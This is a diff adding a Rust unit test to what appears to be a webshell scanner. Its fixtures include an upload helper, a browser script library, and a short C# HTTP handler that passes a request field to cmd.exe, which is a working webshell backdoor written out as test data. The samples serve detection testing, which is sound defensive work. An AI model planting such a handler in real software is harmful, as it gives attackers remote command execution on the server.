@@ -50,3 +50,26 @@ fn data_binding_eval_is_not_script_evaluation() {
                  <% var q = Request.QueryString[\"q\"]; %>";
     assert_eq!(verdict("list.aspx", page), None);
 }
+
+#[test]
+fn class_files_need_a_decisive_capability_and_client_scripts_are_not_server_code() {
+    // An application's upload helper: the visitor's file lands under a name it sends, and the
+    // class fetches and writes other things too; as a page that is a webshell's set of APIs.
+    let helper = b"using System;\nusing System.IO;\nusing System.Net;\nnamespace Blog.Core {\n\
+                   public class Media {\n\
+                   public void Save(string name) { var f = new FileStream(Request.Form[\"dir\"] + name, FileMode.Create); }\n\
+                   public byte[] Get(string u) { return new WebClient().DownloadData(u); }\n\
+                   public void Remove(string p) { File.Delete(Request.Form[\"p\"]); }\n}}\n";
+    assert!(verdict("Media.cs", helper) < Some(Severity::Medium));
+    // A class that runs what the request sends is still one.
+    let backdoor = b"using System;\nusing System.Web;\nnamespace App {\npublic class H : IHttpHandler {\n\
+                     public void ProcessRequest(HttpContext c) { System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + c.Request.Form[\"c\"]); }\n\
+                     public bool IsReusable { get { return true; } }\n}}\n";
+    assert!(verdict("H.cs", backdoor) >= Some(Severity::High));
+    // A script library that says "namespace" is served to browsers, not run.
+    let library =
+        b"var lib = {}; // namespace for helpers\nlib.run = function(code) { return new Function(code)(); };\n\
+                    lib.scope = { $eval: function(expr) { return eval(expr); } };\n\
+                    var request = new XMLHttpRequest(); request.onload = function() { eval(request.responseText); };\n";
+    assert_eq!(verdict("lib.js", library), None);
+}
